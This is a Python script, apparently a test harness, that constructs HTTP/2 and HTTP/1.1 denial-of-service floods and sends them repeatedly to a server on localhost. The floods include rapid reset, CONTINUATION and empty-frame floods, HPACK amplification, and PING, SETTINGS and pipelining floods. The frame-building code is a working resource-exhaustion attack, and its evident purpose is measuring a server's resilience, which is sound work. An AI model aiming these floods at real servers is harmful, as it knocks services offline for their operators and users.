"""What a client can send that costs it little and a server much. Run as a program, it sends one of them:

    floods.py PORT NAME SECONDS

again and again, on one connection after the other, until the time is over.
"""

import socket
import sys
import threading
import time

DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# By the static table of HPACK: the method, http, /, and `:authority: h`.
GET = b"\x82\x86\x84\x01\x01h"
POST = b"\x83\x86\x84\x01\x01h"
PATIENCE = 2


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """RFC 9113 §4.1."""
    return len(payload).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + payload


def requests(count: int, head: bytes, after=lambda stream: b"", flags: int = END_HEADERS | END_STREAM) -> bytes:
    return b"".join(frame(HEADERS, flags, stream, head) + after(stream) for stream in range(1, 2 * count, 2))


def _said_again() -> bytes:
    """A field of 4 KB that is kept, and referred to ten thousand times."""
    return GET + b"\x40\x03x-a\x7f\x81\x1e" + b"a" * 4000 + b"\xbe" * 10_000


def _fields() -> bytes:
    return (b"\x00\x03x-a\x78" + b"a" * 120) * 100


def http2(payload: bytes) -> bytes:
    return PREFACE + frame(SETTINGS, 0, 0) + payload


FLOODS = {
    "rapid-reset": lambda: http2(requests(2000, GET, lambda s: frame(RST_STREAM, 0, s, b"\0\0\0\x08"))),
    "made-to-reset": lambda: http2(
        requests(2000, POST, lambda s: frame(WINDOW_UPDATE, 0, s, b"\0\0\0\0"), END_HEADERS)
    ),
    "endless-head": lambda: http2(
        frame(HEADERS, END_STREAM, 1, GET) + frame(CONTINUATION, 0, 1, _fields()) * 200
    ),
    "empty-continuations": lambda: http2(frame(HEADERS, END_STREAM, 1, GET) + frame(CONTINUATION, 0, 1) * 100_000),
    "hpack": lambda: http2(requests(100, _said_again())),
    "pings": lambda: http2(frame(PING, 0, 0, b"whatever") * 100_000),
    "settings": lambda: http2(frame(SETTINGS, 0, 0, b"\0\3\0\0\0\x64") * 100_000),
    "empty-data": lambda: http2(frame(HEADERS, END_HEADERS, 1, POST) + frame(DATA, 0, 1) * 100_000),
    "requests": lambda: http2(requests(100, GET)),
    "pipeline": lambda: b"GET / HTTP/1.1\r\nHost: h\r\n\r\n" * 20_000,
}


def flood(port: int, payload: bytes, until: float) -> int:
    """How many connections it took."""
    count = 0
    while time.monotonic() < until:
        count += 1
        _send(port, payload)
    return count


def _send(port: int, payload: bytes) -> None:
    with socket.create_connection(("127.0.0.1", port)) as connection:
        connection.settimeout(PATIENCE)
        reader = threading.Thread(target=_read_all, args=[connection])
        reader.start()
        try:
            connection.sendall(payload)
            connection.shutdown(socket.SHUT_WR)
        except OSError:
            pass  # The edge has had enough: what it is measured for.
        reader.join()


def _read_all(connection: socket.socket) -> None:
    try:
        while connection.recv(1 << 16):
            pass
    except OSError:
        pass


def main() -> None:
    port, name, seconds = int(sys.argv[1]), sys.argv[2], float(sys.argv[3])
    until = time.monotonic() + seconds
    if name == "spin":
        while time.monotonic() < until:
            pass
        return
    print(flood(port, FLOODS[name](), until))


if __name__ == "__main__":
    main()
